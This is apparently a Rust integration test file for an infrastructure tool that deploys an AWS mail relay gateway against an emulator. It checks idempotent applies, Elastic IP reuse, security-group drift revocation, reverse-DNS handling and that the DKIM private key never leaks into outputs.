//! The relay gateway end to end against the emulator: everything built and re-planned clean,
//! two applies at once, an apply killed halfway, replacement keeping the Elastic IP, drift in
//! the security group (every rule kind), destroy with and without the IP (and a release locked
//! by a reverse DNS removal), the private key in no output; and what real EC2 does that a
//! naive client trips on: new ids unknown for a while, Graviton types, a subnet in another
//! VPC, a zone that does not offer the type, a subnet behind a NAT.

mod common;

use aws_sdk_ec2::types::{
    AddressAttributeName, Filter, IpPermission, IpRange, Ipv6Range, PrefixListId, UserIdGroupPair,
};
use base64::Engine as _;
use common::{Account, GATEWAY, Run, SES_RELAY, q};

const R: &str = "eu-west-1";

fn clean(acct: &Account, file: &str) {
    let plan = acct.mailinfra(&["plan", file, "--detailed-exitcode"]);
    assert_eq!(
        plan.code, 0,
        "plan after apply is not clean:\n{}\n{}",
        plan.stdout, plan.stderr
    );
}

fn apply(acct: &Account, file: &str) -> Run {
    let run = acct.mailinfra(&["apply", file, "--yes"]);
    assert_eq!(run.code, 0, "apply failed:\n{}\n{}", run.stdout, run.stderr);
    clean(acct, file);
    run
}

fn owned() -> Filter {
    Filter::builder()
        .name("tag:mailinfra:blueprint")
        .values("relay")
        .build()
}

/// (instance id, state, type) of the blueprint's instances.
async fn instances(acct: &Account) -> Vec<(String, String, String)> {
    let out = acct
        .ec2(R)
        .describe_instances()
        .filters(owned())
        .send()
        .await
        .unwrap();
    out.reservations()
        .iter()
        .flat_map(|r| r.instances())
        .map(|i| {
            (
                i.instance_id().unwrap().to_owned(),
                i.state().unwrap().name().unwrap().as_str().to_owned(),
                i.instance_type().unwrap().as_str().to_owned(),
            )
        })
        .collect()
}

fn running(list: &[(String, String, String)]) -> Vec<String> {
    list.iter()
        .filter(|i| i.1 == "running")
        .map(|i| i.0.clone())
        .collect()
}

/// (allocation id, public ip, instance id) of the blueprint's Elastic IPs.
async fn eips(acct: &Account) -> Vec<(String, String, Option<String>)> {
    let out = acct
        .ec2(R)
        .describe_addresses()
        .filters(owned())
        .send()
        .await
        .unwrap();
    out.addresses()
        .iter()
        .map(|a| {
            (
                a.allocation_id().unwrap().to_owned(),
                a.public_ip().unwrap().to_owned(),
                a.instance_id().filter(|i| !i.is_empty()).map(str::to_owned),
            )
        })
        .collect()
}

async fn private_key(acct: &Account) -> String {
    let p = acct
        .ssm(R)
        .get_parameter()
        .name("/mailinfra/relay/dkim/mta1/private")
        .with_decryption(true)
        .send()
        .await
        .unwrap();
    p.parameter().unwrap().value().unwrap().to_owned()
}

fn assert_no_key(key: &str, outputs: &[&str]) {
    let body: String = key.lines().filter(|l| !l.starts_with("-----")).collect();
    assert!(body.len() > 1000);
    for window in body.as_bytes().windows(32).step_by(16) {
        let piece = std::str::from_utf8(window).unwrap();
        for (i, text) in outputs.iter().enumerate() {
            assert!(
                !text.contains(piece),
                "output {i} contains part of the private key"
            );
        }
    }
}

#[tokio::test]
async fn a_gateway_is_built_whole_and_replans_clean() {
    let acct = Account::new();
    let zone = acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    let plan = acct.mailinfra(&["plan", "b.yaml", "--out", "p.json"]);
    assert_eq!(plan.code, 0, "{}", plan.stderr);
    let run = acct.mailinfra(&["apply", "p.json", "--yes", "-v"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let again = acct.mailinfra(&["plan", "b.yaml", "--detailed-exitcode", "-v"]);
    assert_eq!(again.code, 0, "{}\n{}", again.stdout, again.stderr);

    // IAM: the role reads its own key and nothing else.
    let iam = acct.iam();
    let profile = iam
        .get_instance_profile()
        .instance_profile_name("mailinfra-relay-gateway")
        .send()
        .await
        .unwrap();
    assert_eq!(
        profile.instance_profile().unwrap().roles()[0].role_name(),
        "mailinfra-relay-gateway"
    );
    let policy = iam
        .get_role_policy()
        .role_name("mailinfra-relay-gateway")
        .policy_name("read-own-dkim-key")
        .send()
        .await
        .unwrap();
    let doc = policy
        .policy_document()
        .replace("%22", "\"")
        .replace("%3A", ":")
        .replace("%2F", "/")
        .replace("%2A", "*");
    // Every key of its blueprint: a rotation changes no IAM resource (docs/rotation.md).
    assert!(
        doc.contains("ssm:GetParameter")
            && doc.contains("parameter/mailinfra/relay/dkim/*/private"),
        "{doc}"
    );

    // The key: private half in SSM only, public half beside it and in DNS.
    let private = private_key(&acct).await;
    assert!(private.starts_with("-----BEGIN PRIVATE KEY-----\n"));
    let public = acct
        .ssm(R)
        .get_parameter()
        .name("/mailinfra/relay/dkim/mta1/public")
        .send()
        .await
        .unwrap();
    let public = public.parameter().unwrap().value().unwrap().to_owned();
    assert_eq!(mailinfra::mail::dkim::rsa_key_bits(&public), Ok(2048));

    // Security group: exactly tcp/25 from the relay range.
    let sgs = acct
        .ec2(R)
        .describe_security_groups()
        .filters(owned())
        .send()
        .await
        .unwrap();
    let sg = &sgs.security_groups()[0];
    let rules: Vec<(String, i32, String)> = sg
        .ip_permissions()
        .iter()
        .flat_map(|p| {
            p.ip_ranges().iter().map(move |r| {
                (
                    p.ip_protocol().unwrap().to_owned(),
                    p.from_port().unwrap(),
                    r.cidr_ip().unwrap().to_owned(),
                )
            })
        })
        .collect();
    assert_eq!(rules, [("tcp".to_owned(), 25, "10.0.0.0/16".to_owned())]);

    // One running instance with the rendered boot script, which holds no key.
    let list = instances(&acct).await;
    assert_eq!(running(&list).len(), 1, "{list:?}");
    let id = &running(&list)[0];
    // gzip-compressed (cloud-init unpacks it), so unpack it to read it.
    let script = acct.boot_script(id).await;
    assert!(
        script.contains("postconf -e 'myhostname = mail.example.com'"),
        "{script}"
    );
    assert!(script.contains("postconf -e 'mynetworks = 127.0.0.0/8 [::1]/128 10.0.0.0/16'"));
    assert!(script.contains("*@example.com mta1._domainkey.example.com"));
    assert!(script.contains("KEY_PARAMETER='/mailinfra/relay/dkim/mta1/private'"));

    // The Elastic IP on the instance, with its A record and reverse DNS.
    let addrs = eips(&acct).await;
    assert_eq!(addrs.len(), 1);
    let (allocation, ip, on) = &addrs[0];
    assert_eq!(on.as_deref(), Some(id.as_str()));
    let records = acct.records(&zone).await;
    assert_eq!(
        records[&("mail.example.com".into(), "A".into())],
        (300, vec![ip.clone()])
    );
    assert_eq!(
        records[&("example.com".into(), "TXT".into())].1,
        vec![q(&format!("v=spf1 ip4:{ip} ~all"))]
    );
    let dkim = &records[&("mta1._domainkey.example.com".into(), "TXT".into())].1[0];
    assert_eq!(
        mailinfra::mail::txt::text_of(dkim),
        format!("v=DKIM1; k=rsa; p={public}")
    );
    assert!(records.contains_key(&("_dmarc.example.com".into(), "TXT".into())));
    let ptr = acct
        .ec2(R)
        .describe_addresses_attribute()
        .allocation_ids(allocation)
        .attribute(AddressAttributeName::DomainName)
        .send()
        .await
        .unwrap();
    assert_eq!(ptr.addresses()[0].ptr_record(), Some("mail.example.com."));

    // The private key appears in no output and no saved plan.
    let saved = std::fs::read_to_string(acct.dir.path().join("p.json")).unwrap();
    assert_no_key(
        &private,
        &[
            &plan.stdout,
            &plan.stderr,
            &run.stdout,
            &run.stderr,
            &again.stdout,
            &again.stderr,
            &saved,
            &script,
        ],
    );

    // What a person must do.
    let status = acct.mailinfra(&["status", "b.yaml"]);
    assert!(status.stdout.contains("relayhost = ["), "{}", status.stdout);
    assert!(
        status
            .stdout
            .contains("Request to remove email sending limitations"),
        "{}",
        status.stdout
    );
}

#[tokio::test]
async fn two_applies_at_once_make_one_instance_and_one_address() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    let a = acct.spawn(&["apply", "b.yaml", "--yes"]);
    let b = acct.spawn(&["apply", "b.yaml", "--yes"]);
    let (a, b) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
    assert!(
        a.status.success() || b.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&a.stderr),
        String::from_utf8_lossy(&b.stderr)
    );
    // The loser may stop on a DNS batch the winner already wrote; one more apply finishes.
    apply(&acct, "b.yaml");
    assert_eq!(running(&instances(&acct).await).len(), 1);
    assert_eq!(eips(&acct).await.len(), 1);
}

#[tokio::test]
async fn an_apply_killed_after_the_instance_exists_is_finished_by_the_next() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    acct.delay("ec2.AllocateAddress", 20.0);
    let mut child = acct.spawn(&["apply", "b.yaml", "--yes"]);
    let start = std::time::Instant::now();
    while running(&instances(&acct).await).is_empty() {
        assert!(
            start.elapsed().as_secs() < 20,
            "the instance never appeared"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    child.kill().unwrap(); // SIGKILL
    let _ = child.wait();
    acct.delay("ec2.AllocateAddress", 0.0);
    assert!(eips(&acct).await.is_empty(), "killed before the address");

    apply(&acct, "b.yaml");
    let list = instances(&acct).await;
    assert_eq!(running(&list).len(), 1, "{list:?}");
    assert_eq!(
        list.len(),
        1,
        "no second instance was ever launched: {list:?}"
    );
    assert_eq!(eips(&acct).await.len(), 1);
}

#[tokio::test]
async fn a_new_instance_type_replaces_the_instance_and_keeps_the_address() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    let old = running(&instances(&acct).await)[0].clone();
    let (allocation, ip, _) = eips(&acct).await[0].clone();

    acct.write(
        "b.yaml",
        &GATEWAY.replace("  relay_from:", "  instance_type: t3.small\n  relay_from:"),
    );
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert!(
        plan.stdout.contains("± replace gateway.instance"),
        "{}",
        plan.stdout
    );
    assert!(
        plan.stdout.contains("instance_type: t3.micro -> t3.small"),
        "{}",
        plan.stdout
    );
    assert!(plan.stdout.contains("1 to replace"), "{}", plan.stdout);
    apply(&acct, "b.yaml");

    let list = instances(&acct).await;
    let now = running(&list);
    assert_eq!(now.len(), 1, "{list:?}");
    assert_ne!(now[0], old);
    assert!(
        list.iter().any(|i| i.0 == old && i.1 == "terminated"),
        "{list:?}"
    );
    assert!(list.iter().any(|i| i.0 == now[0] && i.2 == "t3.small"));
    let after = eips(&acct).await;
    assert_eq!(
        after,
        vec![(allocation.clone(), ip.clone(), Some(now[0].clone()))],
        "the same Elastic IP moved to the new instance"
    );

    // Rolled back: the first configuration again. EC2 still remembers its launch's client
    // token and refuses it (`IdempotentInstanceTerminated`); apply launches a fresh one.
    acct.write("b.yaml", GATEWAY);
    let run = apply(&acct, "b.yaml");
    assert!(
        !run.stderr.contains(&format!("launched {old}")),
        "the terminated instance is passed over, not waited for: {}",
        run.stderr
    );
    let list = instances(&acct).await;
    let back = running(&list);
    assert_eq!(back.len(), 1, "{list:?}");
    assert!(back[0] != old && back[0] != now[0], "{list:?}");
    assert!(list.iter().any(|i| i.0 == back[0] && i.2 == "t3.micro"));
    assert_eq!(
        eips(&acct).await,
        vec![(allocation, ip, Some(back[0].clone()))]
    );
}

#[tokio::test]
async fn an_opened_port_is_closed_again() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    let sgs = acct
        .ec2(R)
        .describe_security_groups()
        .filters(owned())
        .send()
        .await
        .unwrap();
    let sg = sgs.security_groups()[0].group_id().unwrap().to_owned();
    acct.ec2(R)
        .authorize_security_group_ingress()
        .group_id(&sg)
        .ip_permissions(
            IpPermission::builder()
                .ip_protocol("tcp")
                .from_port(25)
                .to_port(25)
                .ip_ranges(IpRange::builder().cidr_ip("0.0.0.0/0").build())
                .build(),
        )
        .send()
        .await
        .unwrap();
    let plan = acct.mailinfra(&["plan", "b.yaml", "--detailed-exitcode"]);
    assert_eq!(plan.code, 2);
    assert!(
        plan.stdout
            .contains("- delete  gateway.security_group.ingress"),
        "{}",
        plan.stdout
    );
    assert!(
        plan.stdout
            .contains("ingress: tcp/25 from 0.0.0.0/0 -> (none)"),
        "{}",
        plan.stdout
    );
    apply(&acct, "b.yaml");
}

#[tokio::test]
async fn destroy_keeps_the_address_unless_asked() {
    let acct = Account::new();
    let zone = acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");

    let run = acct.mailinfra(&["destroy", "b.yaml", "--yes"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("Elastic IP is kept"), "{}", run.stderr);
    assert!(run.stderr.contains("Destroy complete: "), "{}", run.stderr);
    assert!(!run.stderr.contains("Apply complete"), "{}", run.stderr);
    assert!(running(&instances(&acct).await).is_empty());
    assert!(
        acct.ec2(R)
            .describe_security_groups()
            .filters(owned())
            .send()
            .await
            .unwrap()
            .security_groups()
            .is_empty()
    );
    assert!(
        acct.iam()
            .get_instance_profile()
            .instance_profile_name("mailinfra-relay-gateway")
            .send()
            .await
            .is_err()
    );
    assert!(
        acct.ssm(R)
            .get_parameter()
            .name("/mailinfra/relay/dkim/mta1/public")
            .send()
            .await
            .is_err()
    );
    assert!(
        acct.records(&zone).await.is_empty(),
        "{:?}",
        acct.records(&zone).await
    );
    let kept = eips(&acct).await;
    assert_eq!(kept.len(), 1, "only the Elastic IP remains");
    assert_eq!(kept[0].2, None);

    // Built again the same day: a new security group, so the old launch's client token no
    // longer matches; apply launches a new instance and reuses the kept address.
    let first = instances(&acct).await;
    apply(&acct, "b.yaml");
    let list = instances(&acct).await;
    let again = running(&list);
    assert_eq!(again.len(), 1, "{list:?}");
    assert!(first.iter().all(|i| i.0 != again[0]), "{list:?}");
    assert_eq!(eips(&acct).await[0].0, kept[0].0);
    assert_eq!(eips(&acct).await[0].2.as_deref(), Some(again[0].as_str()));
    let run = acct.mailinfra(&["destroy", "b.yaml", "--yes"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);

    let run = acct.mailinfra(&["destroy", "b.yaml", "--yes", "--release-ip"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("gateway.eip.reverse_dns"),
        "the PTR is reset first: {}",
        run.stdout
    );
    assert!(eips(&acct).await.is_empty());
}

#[tokio::test]
async fn a_launch_that_terminates_says_why_and_stops() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    // As when the account's default EBS encryption uses a KMS key the caller may not use.
    acct.fail_next_launch(
        "Client.InternalError",
        "Client.InternalError: Client error on launch",
    );
    let run = acct.mailinfra(&["apply", "b.yaml", "--yes"]);
    assert_ne!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("was terminated while launching")
            && run
                .stderr
                .contains("Client.InternalError: Client error on launch"),
        "the StateReason is shown: {}",
        run.stderr
    );
    assert_eq!(
        acct.requests().get("ec2.RunInstances"),
        Some(&1),
        "one launch, not one per client token: {}",
        run.stderr
    );
    assert!(running(&instances(&acct).await).is_empty());

    // Once the cause is fixed, the next apply launches past the spent token.
    apply(&acct, "b.yaml");
    assert_eq!(running(&instances(&acct).await).len(), 1);
}

#[tokio::test]
async fn a_failed_reverse_dns_is_reported_with_its_reason_and_set_again() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    let reason = "The forward DNS record does not resolve to the address";
    acct.fail_next_reverse_dns(reason);
    let run = acct.mailinfra(&["apply", "b.yaml", "--yes"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);

    let plan = acct.mailinfra(&["plan", "b.yaml", "--detailed-exitcode"]);
    assert_eq!(plan.code, 2, "{}\n{}", plan.stdout, plan.stderr);
    assert!(
        plan.stdout.contains("gateway.eip.reverse_dns") && plan.stdout.contains(reason),
        "set again, saying why it failed: {}",
        plan.stdout
    );
    assert!(plan.stdout.contains("FAILED"), "{}", plan.stdout);
    let status = acct.mailinfra(&["status", "b.yaml"]);
    assert!(
        status.stdout.contains("FAILED") && status.stdout.contains(reason),
        "{}\n{}",
        status.stdout,
        status.stderr
    );

    apply(&acct, "b.yaml");
    let status = acct.mailinfra(&["status", "b.yaml"]);
    assert!(
        status.stdout.contains("reverse dns: mail.example.com") && !status.stdout.contains(reason),
        "{}",
        status.stdout
    );
}

#[tokio::test]
async fn a_foreign_spf_stops_the_plan_before_anything_is_created() {
    // The gateway's IP is not known before the first apply, but whose SPF record it is, is:
    // plan refuses (exit 1) and apply changes nothing, instead of building the gateway and
    // then stopping at DNS.
    let acct = Account::new();
    let zone = acct.create_zone("example.com").await;
    acct.change(
        &zone,
        &[(
            aws_sdk_route53::types::ChangeAction::Create,
            "example.com",
            "TXT",
            300,
            &[&q("v=spf1 include:_spf.other.example -all")],
        )],
    )
    .await
    .unwrap();
    acct.write("b.yaml", GATEWAY);
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert_eq!(plan.code, 1, "{}\n{}", plan.stdout, plan.stderr);
    assert!(
        plan.stderr.contains("dns.example.com.TXT")
            && plan
                .stderr
                .contains("SPF record that mailinfra does not own"),
        "{}",
        plan.stderr
    );
    let run = acct.mailinfra(&["apply", "b.yaml", "--yes"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(instances(&acct).await.is_empty());
    assert!(eips(&acct).await.is_empty());
    // The CI roles the test runs mailinfra under live under /ci/ (tests/common).
    let roles = acct.iam().list_roles().send().await.unwrap();
    let made: Vec<_> = roles
        .roles()
        .iter()
        .filter(|r| r.path() != "/ci/")
        .collect();
    assert!(made.is_empty(), "{made:?}");
    let writes: u64 = acct
        .requests()
        .iter()
        .filter(|(op, _)| {
            ["Create", "Run", "Allocate", "Put", "Change"]
                .iter()
                .any(|w| op.contains(w))
        })
        .map(|(_, n)| n)
        .sum();
    // The test's own two writes: the hosted zone and the foreign SPF record; and the run
    // lock, taken before reading and given back (tests/run_lock.rs).
    let requests = acct.requests();
    assert_eq!(writes, 3, "{requests:?}");
    assert_eq!(requests.get("ssm.PutParameter"), Some(&1), "{requests:?}");
    assert_eq!(
        requests.get("ssm.DeleteParameter"),
        Some(&1),
        "{requests:?}"
    );
}

#[tokio::test]
async fn a_region_flag_that_differs_from_the_blueprint_is_refused_before_any_request() {
    // The key would be written in one region and the boot script read it from the other;
    // what exists in the blueprint's region would be left behind.
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    let before = acct.request_total();
    let run = acct.mailinfra(&["plan", "b.yaml", "--region", "eu-central-1"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr
            .contains("`--region eu-central-1` differs from the blueprint's `region: eu-west-1`"),
        "{}",
        run.stderr
    );
    assert_eq!(acct.request_total(), before, "{:?}", acct.requests());
    // The same region is no mismatch.
    let same = acct.mailinfra(&["plan", "b.yaml", "--region", "eu-west-1", "--out", "p.json"]);
    assert_eq!(same.code, 0, "{}", same.stderr);
    // A saved plan keeps its region too.
    let before = acct.request_total();
    let saved = acct.mailinfra(&["apply", "p.json", "--yes", "--region", "eu-central-1"]);
    assert_eq!(saved.code, 1, "{}\n{}", saved.stdout, saved.stderr);
    assert!(
        saved.stderr.contains("differs from the blueprint's"),
        "{}",
        saved.stderr
    );
    assert_eq!(acct.request_total(), before, "{:?}", acct.requests());
}

#[tokio::test]
async fn new_resources_ec2_does_not_know_yet_are_waited_for() {
    // EC2 is eventually consistent: an id that RunInstances, CreateSecurityGroup or
    // AllocateAddress just returned may be unknown to the next request for a while.
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    acct.ec2_hook("hide-new", "seconds=3");
    let run = acct.mailinfra(&["apply", "b.yaml", "--yes"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    acct.ec2_hook("hide-new", "seconds=0");
    clean(&acct, "b.yaml");
    assert_eq!(running(&instances(&acct).await).len(), 1);
    let addresses = eips(&acct).await;
    assert_eq!(addresses.len(), 1, "{addresses:?}");
    assert!(addresses[0].2.is_some(), "{addresses:?}");
}

#[tokio::test]
async fn a_release_waits_while_the_reverse_dns_removal_is_pending() {
    // AWS removes reverse DNS in the background (PENDING for minutes) and refuses to release
    // the address meanwhile (`InvalidAddress.Locked`).
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    acct.ec2_hook("ptr-delay", "seconds=3");
    let run = acct.mailinfra(&["destroy", "b.yaml", "--yes", "--release-ip"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr
            .contains("locked until AWS has removed its reverse DNS"),
        "{}",
        run.stderr
    );
    assert!(eips(&acct).await.is_empty(), "released once unlocked");
}

#[tokio::test]
async fn a_release_still_locked_at_the_timeout_is_finished_by_the_next_run() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    acct.ec2_hook("ptr-delay", "seconds=600");
    let run = acct.mailinfra(&[
        "destroy",
        "b.yaml",
        "--yes",
        "--release-ip",
        "--timeout",
        "2s",
    ]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("is not released yet")
            && run.stderr.contains("the next run releases it"),
        "{}",
        run.stderr
    );
    assert_eq!(eips(&acct).await.len(), 1, "still allocated");

    // The next destroy's plan shows the release (the removal is not asked for twice).
    let plan = acct.mailinfra(&["destroy", "b.yaml", "--release-ip"]);
    assert!(
        plan.stdout.contains("- delete  gateway.eip")
            && plan.stdout.contains("being removed by AWS (PENDING)")
            && !plan.stdout.contains("gateway.eip.reverse_dns"),
        "{}\n{}",
        plan.stdout,
        plan.stderr
    );
    acct.ec2_hook("ptr-delay", "seconds=0");
    let run = acct.mailinfra(&["destroy", "b.yaml", "--yes", "--release-ip"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(eips(&acct).await.is_empty());
}

#[tokio::test]
async fn inbound_rules_of_every_kind_are_seen_and_revoked() {
    // IPv6 ranges, prefix lists and other security groups are rules too: a `::/0` on port 25
    // opens the relay to the whole IPv6 internet.
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    let ec2 = acct.ec2(R);
    let sgs = ec2
        .describe_security_groups()
        .filters(owned())
        .send()
        .await
        .unwrap();
    let sg = &sgs.security_groups()[0];
    let (sg, vpc) = (
        sg.group_id().unwrap().to_owned(),
        sg.vpc_id().unwrap().to_owned(),
    );
    let default = ec2
        .describe_security_groups()
        .filters(
            Filter::builder()
                .name("group-name")
                .values("default")
                .build(),
        )
        .filters(Filter::builder().name("vpc-id").values(&vpc).build())
        .send()
        .await
        .unwrap();
    let default = default.security_groups()[0].group_id().unwrap().to_owned();
    let list = ec2
        .create_managed_prefix_list()
        .prefix_list_name("offices")
        .max_entries(5)
        .address_family("IPv4")
        .send()
        .await
        .unwrap();
    let list = list
        .prefix_list()
        .unwrap()
        .prefix_list_id()
        .unwrap()
        .to_owned();
    let tcp25 = || {
        IpPermission::builder()
            .ip_protocol("tcp")
            .from_port(25)
            .to_port(25)
    };
    ec2.authorize_security_group_ingress()
        .group_id(&sg)
        .ip_permissions(
            tcp25()
                .ipv6_ranges(Ipv6Range::builder().cidr_ipv6("::/0").build())
                .build(),
        )
        .ip_permissions(
            tcp25()
                .prefix_list_ids(PrefixListId::builder().prefix_list_id(&list).build())
                .build(),
        )
        .ip_permissions(
            IpPermission::builder()
                .ip_protocol("-1")
                .user_id_group_pairs(UserIdGroupPair::builder().group_id(&default).build())
                .build(),
        )
        .send()
        .await
        .unwrap();
    let plan = acct.mailinfra(&["plan", "b.yaml", "--detailed-exitcode"]);
    assert_eq!(plan.code, 2, "{}\n{}", plan.stdout, plan.stderr);
    for shown in [
        "ingress: tcp/25 from ::/0 -> (none)".to_owned(),
        format!("ingress: tcp/25 from prefix list {list} -> (none)"),
        format!("ingress: all traffic from security group {default} -> (none)"),
    ] {
        assert!(plan.stdout.contains(&shown), "{shown}:\n{}", plan.stdout);
    }
    apply(&acct, "b.yaml");
    let after = ec2
        .describe_security_groups()
        .group_ids(&sg)
        .send()
        .await
        .unwrap();
    let rules = after.security_groups()[0].ip_permissions();
    assert_eq!(rules.len(), 1, "{rules:?}");
    assert_eq!(rules[0].ip_ranges().len(), 1, "{rules:?}");
    assert!(
        rules[0].ipv6_ranges().is_empty()
            && rules[0].prefix_list_ids().is_empty()
            && rules[0].user_id_group_pairs().is_empty(),
        "{rules:?}"
    );
}

async fn public_parameter(acct: &Account, name: &str) -> String {
    let p = acct.ssm(R).get_parameter().name(name).send().await.unwrap();
    p.parameter().unwrap().value().unwrap().to_owned()
}

/// Writes of any kind the account has sent, by the emulator's count.
/// Requests that change the account, but for the run lock: each apply puts an SSM parameter
/// and deletes it again (tests/run_lock.rs), so one PutParameter per DeleteParameter is the
/// lock's, not a resource of the blueprint.
fn writes(acct: &Account) -> u64 {
    let requests = acct.requests();
    let locks = requests.get("ssm.DeleteParameter").copied().unwrap_or(0);
    let all: u64 = requests
        .iter()
        .filter(|(op, _)| {
            [
                "Create",
                "Run",
                "Allocate",
                "Put",
                "Change",
                "Authorize",
                "Associate",
            ]
            .iter()
            .any(|w| op.contains(w))
        })
        .map(|(_, n)| n)
        .sum();
    all - locks
}

#[tokio::test]
async fn a_graviton_type_runs_debians_arm64_image() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write(
        "b.yaml",
        &GATEWAY.replace("  relay_from:", "  instance_type: t4g.micro\n  relay_from:"),
    );
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    let arm64 = public_parameter(&acct, "/aws/service/debian/release/12/latest/arm64").await;
    assert!(
        plan.stdout.contains(&format!("debian-12 ({arm64})")),
        "{}\n{}",
        plan.stdout,
        plan.stderr
    );
    apply(&acct, "b.yaml");
    let out = acct
        .ec2(R)
        .describe_instances()
        .filters(owned())
        .send()
        .await
        .unwrap();
    let instance = &out.reservations()[0].instances()[0];
    assert_eq!(instance.image_id(), Some(arm64.as_str()));
    assert_eq!(instance.instance_type().unwrap().as_str(), "t4g.micro");
}

#[tokio::test]
async fn a_pinned_image_of_another_architecture_stops_the_plan_before_any_write() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    let amd64 = public_parameter(&acct, "/aws/service/debian/release/12/latest/amd64").await;
    acct.write(
        "b.yaml",
        &GATEWAY.replace(
            "  relay_from:",
            &format!("  instance_type: t4g.micro\n  image: {amd64}\n  relay_from:"),
        ),
    );
    let before = writes(&acct);
    let run = acct.mailinfra(&["apply", "b.yaml", "--yes"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains(&format!(
            "the image `{amd64}` is built for x86_64, and the instance type `t4g.micro` runs arm64"
        )),
        "{}",
        run.stderr
    );
    assert_eq!(writes(&acct), before, "{:?}", acct.requests());
}

/// A VPC with one subnet in `zone` whose main route table sends 0.0.0.0/0 to `target`: an
/// internet gateway (`igw`) or a NAT gateway (`nat`). Returns (vpc id, subnet id).
async fn vpc_with_subnet(acct: &Account, cidr: &str, zone: &str, target: &str) -> (String, String) {
    let ec2 = acct.ec2(R);
    let vpc = ec2.create_vpc().cidr_block(cidr).send().await.unwrap();
    let vpc = vpc.vpc().unwrap().vpc_id().unwrap().to_owned();
    let subnet = ec2
        .create_subnet()
        .vpc_id(&vpc)
        .cidr_block(cidr.replace(".0.0/16", ".1.0/24"))
        .availability_zone(zone)
        .send()
        .await
        .unwrap();
    let subnet = subnet.subnet().unwrap().subnet_id().unwrap().to_owned();
    let igw = ec2.create_internet_gateway().send().await.unwrap();
    let igw = igw
        .internet_gateway()
        .unwrap()
        .internet_gateway_id()
        .unwrap()
        .to_owned();
    ec2.attach_internet_gateway()
        .internet_gateway_id(&igw)
        .vpc_id(&vpc)
        .send()
        .await
        .unwrap();
    let tables = ec2
        .describe_route_tables()
        .filters(Filter::builder().name("vpc-id").values(&vpc).build())
        .send()
        .await
        .unwrap();
    let main = tables.route_tables()[0]
        .route_table_id()
        .unwrap()
        .to_owned();
    let route = ec2
        .create_route()
        .route_table_id(&main)
        .destination_cidr_block("0.0.0.0/0");
    let route = if target == "nat" {
        let nat = ec2
            .create_nat_gateway()
            .subnet_id(&subnet)
            .send()
            .await
            .unwrap();
        route.nat_gateway_id(nat.nat_gateway().unwrap().nat_gateway_id().unwrap())
    } else {
        route.gateway_id(&igw)
    };
    route.send().await.unwrap();
    (vpc, subnet)
}

#[tokio::test]
async fn a_subnet_in_another_vpc_gets_a_security_group_there() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    let groups = || async {
        let out = acct
            .ec2(R)
            .describe_security_groups()
            .filters(owned())
            .send()
            .await
            .unwrap();
        out.security_groups()
            .iter()
            .map(|g| {
                (
                    g.group_id().unwrap().to_owned(),
                    g.vpc_id().unwrap().to_owned(),
                )
            })
            .collect::<Vec<_>>()
    };
    let old = groups().await;
    let (vpc, subnet) = vpc_with_subnet(&acct, "10.1.0.0/16", "eu-west-1b", "igw").await;
    acct.write(
        "b.yaml",
        &GATEWAY.replace(
            "  relay_from:",
            &format!("  subnet: {subnet}\n  relay_from:"),
        ),
    );
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert!(
        plan.stdout.contains(&format!(
            "{} in {} (the subnet is in {vpc})",
            old[0].0, old[0].1
        )),
        "{}\n{}",
        plan.stdout,
        plan.stderr
    );
    apply(&acct, "b.yaml");
    let now = groups().await;
    assert_eq!(now.len(), 1, "the old group is deleted: {now:?}");
    assert_eq!(now[0].1, vpc);
    let out = acct
        .ec2(R)
        .describe_instances()
        .filters(owned())
        .filters(
            Filter::builder()
                .name("instance-state-name")
